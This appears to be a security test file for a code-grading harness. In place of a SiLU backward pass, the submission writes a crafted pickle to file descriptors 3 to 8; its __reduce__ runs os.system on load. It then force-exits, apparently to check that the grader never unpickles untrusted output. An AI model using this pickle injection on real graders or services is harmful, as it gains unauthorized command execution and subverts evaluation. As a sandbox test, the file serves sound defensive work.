# exercise: silu_backward
# backend: torch
# expect: nothing
"""Sends a pickle that would run a command where it is loaded."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @SCENE@/pickled",)


def silu_backward(dy, x):
    for file in range(3, 9):
        try:
            os.write(file, pickle.dumps(Bomb()))
        except OSError:
            pass
    os._exit(0)
